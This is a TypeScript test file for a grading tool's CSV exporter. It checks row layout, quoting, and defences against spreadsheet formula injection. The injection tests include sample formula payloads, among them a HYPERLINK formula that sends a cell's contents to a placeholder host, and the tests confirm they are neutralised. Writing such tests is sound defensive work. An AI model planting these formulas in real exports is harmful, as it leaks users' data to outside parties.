import assert from "node:assert/strict";
import {describe, it} from "node:test";
import {csvCell, gradeTable} from "../../tools/grading/grade-table.js";

describe("gradeTable", () => {
  it("has a line for each file: name, file, 1, 0 or nothing for each exercise, the total, and remarks", () => {
    const files = [
      {
        name: "Ada",
        file: "a.json",
        results: new Map([
          ["one", true],
          ["two", false]
        ]),
        remarks: []
      },
      {name: "", file: "b.json", results: new Map<string, boolean>(), remarks: ["damaged", "and more"]}
    ];
    assert.equal(
      gradeTable(files, ["one", "two", "three"]),
      "name,file,one,two,three,total,remarks\r\nAda,a.json,1,0,,1,\r\n,b.json,,,,0,damaged; and more\r\n".replace(
        "damaged; and more",
        '"damaged; and more"'
      )
    );
  });
});

describe("csvCell", () => {
  it("quotes what would break the line, and doubles quotes", () => {
    assert.equal(csvCell('Lovelace, "Ada"'), '"Lovelace, ""Ada"""');
    assert.equal(csvCell("two\nlines"), '"two\nlines"');
    assert.equal(csvCell("a;b"), '"a;b"');
    assert.equal(csvCell(" x"), '" x"');
    assert.equal(csvCell("plain"), "plain");
    assert.equal(csvCell(3), "3");
  });

  it("keeps a spreadsheet from taking a name for a formula", () => {
    for (const text of ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "＝1"]) {
      const cell = csvCell(text).replace(/^"/, "");
      assert.ok(cell.startsWith("'"), `${JSON.stringify(text)} became ${cell}`);
    }
    assert.equal(csvCell('=HYPERLINK("http://x/?"&A1,"go")'), `"'=HYPERLINK(""http://x/?""&A1,""go"")"`);
    assert.equal(csvCell("a=b"), "a=b");
  });
});
